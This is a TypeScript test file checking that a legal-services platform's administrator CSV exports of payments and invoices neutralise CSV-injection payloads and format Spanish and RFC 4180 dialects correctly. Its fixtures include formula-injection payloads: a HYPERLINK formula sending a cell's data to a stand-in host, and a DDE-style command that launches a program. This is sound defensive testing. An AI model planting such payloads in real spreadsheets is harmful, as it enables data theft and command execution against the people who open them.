import { es } from '@l4l/shared/texts/es';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp } from './app.ts';
import { bearer, createLawyer, createUser, signIn } from './factories.ts';
import { moneyHelpers, type Person } from './money.ts';

type TestApp = Awaited<ReturnType<typeof buildTestApp>>;

/** What a spreadsheet runs as a formula (OWASP, CSV injection); a number, negative too, is not one. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);

const FORMULA_NAME = '=HYPERLINK("http://x/?"&A1,"Ver")';
const address = { street: 'Calle Mayor, 1', postalCode: '28013', city: 'Madrid', province: 'Madrid' };

/**
 * Every administrator's CSV export (docs/api/http.md, CSV exports) with people named as formulas: no cell
 * runs, the Spanish dialect reads back as a Spanish spreadsheet would, and the machines' dialect too.
 */
describe('CSV exports', () => {
  let t: TestApp;
  let admin: Person;
  let paymentId: string;
  const h = moneyHelpers(() => t);
  const EXPORTS = ['/api/admin/payments?format=csv', '/api/admin/invoices?format=csv'];

  async function download(url: string) {
    const res = await t.app.inject({ method: 'GET', url, headers: admin.headers });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.body.startsWith('\uFEFF')).toBe(true);
    const rfc = url.includes('dialect=rfc4180');
    return parse(res.body, { bom: true, delimiter: rfc ? ',' : ';' }) as string[][];
  }

  beforeAll(async () => {
    t = await buildTestApp();
    admin = await h.person('admin');
    const clientRow = await createUser(t.app, { name: FORMULA_NAME, surname: '@SUM(1+1)' });
    const client = { id: clientRow.id, headers: bearer(await signIn(t.app, clientRow)) };
    const lawyerRow = await createLawyer(t.app, { name: '+cmd', surname: "-2+3|' /C calc'!A0" });
    const lawyer = { id: lawyerRow.id, headers: bearer(await signIn(t.app, lawyerRow)) };
    const profile = await t.app.inject({
      method: 'PUT',
      url: '/api/billing/fiscal-profile',
      headers: lawyer.headers,
      payload: { nif: '12345678Z', name: 'Lucía García', address, irpfRate: 15, invoicingConsent: true },
    });
    expect(profile.statusCode, profile.body).toBe(200);
    await h.paidCase(client, lawyer, admin, 200);
    const list = await h.get(admin, '/api/admin/payments');
    paymentId = list.data[0].id;
    // a partial refund: a rectifying invoice with negative amounts
    const refund = await h.refund(admin, paymentId, 'Parte del servicio no se prestó.', 50);
    expect(refund.statusCode, refund.body).toBe(200);
  });
  afterAll(() => t.close());

  it('writes no cell a spreadsheet would run, in either dialect', async () => {
    for (const url of EXPORTS) {
      for (const dialect of ['', '&dialect=es', '&dialect=rfc4180']) {
        const rows = await download(`${url}${dialect}`);
        expect(rows.length, url).toBeGreaterThan(1);
        for (const cell of rows.flat()) expect(runsAsFormula(cell), `${url}${dialect}: ${cell}`).toBe(false);
      }
    }
  });

  it('reads the Spanish dialect back as a Spanish spreadsheet would', async () => {
    const [header, ...rows] = await download('/api/admin/payments?format=csv');
    expect(header).toEqual([...es.admin.money.csvHeader]);
    const row = rows.find((cells) => cells[0] === paymentId);
    expect(row?.slice(2, 8)).toEqual([
      `'${FORMULA_NAME} @SUM(1+1)`,
      `'+cmd -2+3|' /C calc'!A0`,
      'COMPLETADO',
      '200,00',
      '20,00',
      '50,00',
    ]);
    expect(row?.[9]).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);

    const [book, ...invoices] = await download('/api/admin/invoices?format=csv');
    expect(book?.slice(0, 5)).toEqual(['NumSerieFactura', 'Serie', 'Numero', 'Tipo', 'FechaExpedicion']);
    const totals = invoices.map((cells) => cells[book?.indexOf('Total') ?? -1]);
    // the service and fee invoices, and the two rectifying invoices of the 50 € refund (negative totals)
    expect(totals).toHaveLength(4);
    expect(totals.filter((total) => /^-\d+,\d{2}$/.test(total ?? ''))).toHaveLength(2);
    for (const cells of invoices) expect(cells[4]).toMatch(/^\d{2}\/\d{2}\/\d{4}$/);
  });

  it('answers the machines’ dialect with commas, decimal points and ISO dates, and refuses an unknown one', async () => {
    const [, ...rows] = await download('/api/admin/payments?format=csv&dialect=rfc4180');
    const row = rows.find((cells) => cells[0] === paymentId);
    expect(row?.slice(5, 8)).toEqual(['200.00', '20.00', '50.00']);
    expect(row?.[9]).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    const [, ...invoices] = await download('/api/admin/invoices?format=csv&dialect=rfc4180');
    for (const cells of invoices) expect(cells[4]).toMatch(/^\d{4}-\d{2}-\d{2}$/);

    for (const url of EXPORTS) {
      const bad = await t.app.inject({ method: 'GET', url: `${url}&dialect=excel`, headers: admin.headers });
      expect(bad.statusCode).toBe(400);
      expect(bad.body).toContain(es.validation.csvDialect);
    }
  });
});
